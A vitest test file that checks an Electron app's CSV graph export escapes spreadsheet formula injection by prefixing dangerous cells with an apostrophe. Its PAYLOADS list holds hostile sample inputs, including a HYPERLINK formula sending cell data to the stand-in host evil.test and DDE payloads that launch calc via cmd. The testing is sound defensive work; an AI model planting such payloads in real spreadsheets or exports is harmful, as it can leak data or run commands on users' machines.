import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportGraph } from '../../../electron/core/export';
import type { ArticleSummary, ExportFile, GraphData } from '../../../electron/shared/types';
import { awkwardGraph } from './arbitraries';

// What OWASP lists as the first characters that make a spreadsheet evaluate a cell.
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
// A number a spreadsheet reads as a number (never evaluated as a formula).
const NUMBER = /^-?\d+(\.\d+)?(e[+-]\d+)?$/;

const PAYLOADS = ['=HYPERLINK("http://evil.test/?x="&A1,"点击")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

/** Every cell of a CSV file as a spreadsheet reads it: BOM dropped, quotes resolved, multi-line cells whole. */
function cells(file: ExportFile): string[][] {
  return parse(file.content, { bom: true, relax_column_count: false }) as string[][];
}

function dangerous(files: ExportFile[]): string[] {
  const bad: string[] = [];
  for (const file of files) {
    for (const row of cells(file)) {
      for (const c of row) if (c.length > 0 && TRIGGERS.includes(c[0]) && !NUMBER.test(c)) bad.push(`${file.name}: ${JSON.stringify(c)}`);
    }
  }
  return bad;
}

const ARTICLE: ArticleSummary = { id: 'a_1', title: PAYLOADS[0], date: '2024-10-14', place: '@邢台', byline: [{ role: '=记者', name: '李昱霖' }], source: '-page.txt', chars: 42, pageDate: '2024-10-14', dateSource: 'page' };

function hostileGraph(): GraphData {
  return {
    nodes: PAYLOADS.map((p, i) => ({
      id: `e_${i}`,
      type: 'organisation' as const,
      name: p,
      aliases: [p],
      mentions: 1,
      articles: ['a_1'],
      degree: 1,
      weightedDegree: 2,
      note: p,
      tags: [p],
      position: { x: -120.5 * (i + 1), y: -3e-7 },
    })),
    edges: PAYLOADS.map((p, i) => ({
      id: `r_${i}`,
      type: 'role' as const,
      source: `e_${i}`,
      target: `e_${(i + 1) % PAYLOADS.length}`,
      label: p,
      weight: 2,
      evidence: [{ article: 'a_1', start: 0, end: p.length, text: p, date: '2024-10-14' }],
      firstDate: '2024-10-14',
      lastDate: '2024-10-14',
      attrs: { via: p, year: -44 },
    })),
  };
}

describe('CSV export opened in a spreadsheet', () => {
  const files = exportGraph(hostileGraph(), 'csv', { articles: [ARTICLE], generatedAt: '2026-01-01T00:00:00.000Z' });
  const table = (name: string): Array<Record<string, string>> =>
    parse(files.find((f) => f.name === name)!.content, { bom: true, columns: true }) as Array<Record<string, string>>;

  it('has no text cell that begins with a formula character in any of the four tables', () => {
    expect(files.map((f) => f.name)).toEqual(['nodes.csv', 'edges.csv', 'evidence.csv', 'articles.csv']);
    expect(dangerous(files)).toEqual([]);
  });

  it('keeps the payloads readable as text, behind one apostrophe', () => {
    const nodes = table('nodes.csv');
    expect(nodes.map((n) => n.label)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(nodes[0].note).toBe(`'${PAYLOADS[0]}`);
    expect(table('edges.csv').map((e) => e.label)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(table('edges.csv')[3].attr_via).toBe(`'${PAYLOADS[3]}`);
    expect(table('evidence.csv').map((e) => e.sentence)).toEqual(PAYLOADS.map((p) => `'${p}`));
    const [article] = table('articles.csv');
    expect([article.title, article.place, article.byline, article.source]).toEqual([`'${PAYLOADS[0]}`, "'@邢台", "'=记者:李昱霖", "'-page.txt"]);
  });

  it('writes numeric columns as plain numbers, negative ones included', () => {
    const nodes = table('nodes.csv');
    expect(nodes.map((n) => n.x)).toEqual(PAYLOADS.map((_, i) => String(-120.5 * (i + 1))));
    expect(nodes[0].y).toBe('-3e-7');
    expect(table('edges.csv').map((e) => [e.weight, e.attr_year])).toEqual(PAYLOADS.map(() => ['2', '-44']));
    expect(table('articles.csv')[0].chars).toBe('42');
  });

  it('leaves ordinary text as it is', () => {
    const plain = exportGraph(
      { nodes: [{ id: 'e_x', type: 'person', name: '夏海燕 (秘书长)', aliases: ["'引号"], mentions: 1, articles: [], degree: 0, weightedDegree: 0 }], edges: [] },
      'csv',
    );
    const [row] = parse(plain[0].content, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect([row.label, row.aliases]).toEqual(['夏海燕 (秘书长)', "'引号"]);
  });

  it('holds for any graph of awkward text', () => {
    fc.assert(
      fc.property(awkwardGraph, (g) => {
        expect(dangerous(exportGraph(g, 'csv'))).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });
});
